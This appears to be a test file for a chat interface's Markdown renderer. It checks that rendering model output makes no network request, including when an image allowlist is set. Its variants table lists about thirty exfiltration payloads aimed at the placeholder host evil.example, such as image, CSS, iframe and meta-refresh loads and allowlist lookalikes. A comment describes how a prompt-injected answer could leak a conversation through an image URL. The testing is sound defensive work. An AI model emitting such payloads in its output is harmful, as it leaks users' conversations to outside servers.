import { render } from '@testing-library/react';
import { http, HttpResponse } from 'msw';
import { beforeAll, describe, expect, it } from 'vitest';
import { Markdown, preloadMarkdown } from 'colloquy';
import { setupRecordingServer } from '../helpers/recording-server.js';
import { findViolations } from './fixtures/inert-dom.js';

// Markdown loads on demand; these tests are about what it renders, so it is there before the first one.
beforeAll(async () => {
  expect(await preloadMarkdown()).toBe(true);
});

// Zero egress: rendering model output must not make the browser fetch anything, or a prompt-injected answer could
// carry the conversation to another server in an image URL, without a click. The DOM assertion is the primary one:
// vitest's jsdom loads no subresources (no `resources: 'usable'`), so an <img> it renders would fetch nothing here and
// only the DOM shows it would in a browser. The MSW listener additionally proves that nothing in this process reached
// the network while rendering (the server fails on unhandled requests and records every one).
const { server, requests } = setupRecordingServer();

const cdn = 'https://cdn.example.com';

/** Every way model output could ask for a network load, by name. */
const variants: Record<string, string> = {
  'inline image': '![chart](https://evil.example/chart.png?q=secret "Chart")',
  'reference-style image': '![chart][img]\n\n[img]: https://evil.example/ref.png',
  'collapsed reference image': '![img][]\n\n[img]: <https://evil.example/collapsed.png> "t"',
  'shortcut reference image, defined first': '[img]: https://evil.example/short.png\n\n![img]',
  'protocol-relative image': '![x](//evil.example/p.png)',
  'relative image': '![x](/api/conversations?leak=1)',
  'data: image': '![x](data:image/png;base64,iVBORw0KGgo=)',
  'entity-encoded image URL': '![x](&#104;ttps://evil.example/e.png)',
  'image inside a link': '[![x](https://evil.example/n.png)](https://example.com)',
  'image in a table, a list and a quote': '| a |\n|---|\n| ![t](https://evil.example/t.png) |\n\n- ![l](https://evil.example/l.png)\n\n> ![q](https://evil.example/q.png)',
  'autolinks and bare URLs': '<https://evil.example/auto> https://evil.example/bare www.evil.example/www',
  'raw <img>': '<img src="https://evil.example/raw.png">',
  'raw <img srcset>': '<img srcset="https://evil.example/1x.png 1x, https://evil.example/2x.png 2x">',
  'raw <picture>': '<picture><source srcset="https://evil.example/p.webp"><img src="https://evil.example/p.png"></picture>',
  'raw <video poster>': '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4" autoplay></video>',
  'raw <audio>': '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  'raw <link rel=prefetch>': '<link rel="prefetch" href="https://evil.example/prefetch">',
  'raw <link rel=stylesheet>': '<link rel="stylesheet" href="https://evil.example/s.css">',
  'raw style="background:url()"': '<div style="background:url(https://evil.example/bg.png)">x</div>',
  'raw <style> @import': '<style>@import url(https://evil.example/i.css); body{background:url(https://evil.example/b.png)}</style>',
  'raw <meta refresh>': '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  'raw <a ping>': '<a href="https://example.com" ping="https://evil.example/ping">x</a>',
  'raw SVG <image>': '<svg><image href="https://evil.example/svg.png"/><image xlink:href="https://evil.example/x.png"/></svg>',
  'raw <iframe>, <object>, <embed>': '<iframe src="https://evil.example/f"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  'raw <script src>': '<script src="https://evil.example/s.js"></script>',
  'raw <input type=image>': '<input type="image" src="https://evil.example/i.png">',
  'raw background attribute': '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
  'raw <base>': '<base href="https://evil.example/">![x](p.png)',
  'allowlisted origin in raw HTML': `<img src="${cdn}/raw.png">`,
  'allowlisted image beside lookalikes': [
    `![ok](${cdn}/ok.png)`,
    '![lookalike](https://cdn.example.com.evil.example/l.png)',
    '![userinfo](https://cdn.example.com@evil.example/u.png)',
    '![http](http://cdn.example.com/h.png)',
    '![port](https://cdn.example.com:8443/p.png)',
  ].join(' '),
};

/** The images that may load with `imageAllowlist={[cdn]}`: only markdown images from exactly that origin. */
const allowedImages: Record<string, string[]> = {
  'allowlisted image beside lookalikes': [`${cdn}/ok.png`],
};

/** Renders `text` the way a stream does, one more character at a time, checking the DOM after each. */
function streamEveryPrefix(text: string, imageAllowlist?: readonly string[]): { violations: string[]; container: HTMLElement } {
  const { container, rerender } = render(<Markdown text="" imageAllowlist={imageAllowlist} />);
  const violations: string[] = [];
  for (let end = 1; end <= text.length; end++) {
    rerender(<Markdown text={text.slice(0, end)} imageAllowlist={imageAllowlist} />);
    for (const violation of findViolations(container, { imageOrigins: imageAllowlist })) violations.push(`${violation} at prefix ${end}`);
  }
  return { violations, container };
}

const nextTask = () => new Promise((resolve) => setTimeout(resolve, 0));

describe('Markdown makes no network request', () => {
  it.each(Object.entries(variants))('%s: no streaming prefix loads anything by default', async (_name, text) => {
    const { violations, container } = streamEveryPrefix(text);
    expect(violations).toEqual([]);
    expect(container.querySelectorAll('img')).toHaveLength(0);
    await nextTask();
    expect(requests).toEqual([]);
  });

  it.each(Object.entries(variants))('%s: with an image allowlist, only its origin loads, at every prefix', async (name, text) => {
    const { violations, container } = streamEveryPrefix(text, [cdn]);
    expect(violations).toEqual([]);
    const loaded = [...container.querySelectorAll('img')].map((image) => image.getAttribute('src'));
    expect(loaded).toEqual(allowedImages[name] ?? []);
    await nextTask();
    expect(requests).toEqual([]);
  });

  it('the check sees what would load: the same markup, parsed as HTML, fails it', () => {
    // A negative control for the DOM assertion: the variants' raw HTML, trusted, is full of loads.
    const trusted = document.createElement('div');
    trusted.innerHTML = Object.values(variants).join('\n');
    const violations = findViolations(trusted, { imageOrigins: [cdn] });
    for (const kind of ['image load', 'fetching attribute', 'style load', 'active element', 'link target', 'link attributes']) {
      expect(violations.filter((violation) => violation.startsWith(`${kind}:`)), kind).not.toEqual([]);
    }
  });

  it('the request listener is live: a fetch from this process is recorded', async () => {
    server.use(http.get('https://evil.example/probe', () => new HttpResponse(null, { status: 204 })));
    await fetch('https://evil.example/probe');
    expect(requests.map((request) => request.url)).toEqual(['https://evil.example/probe']);
  });
});
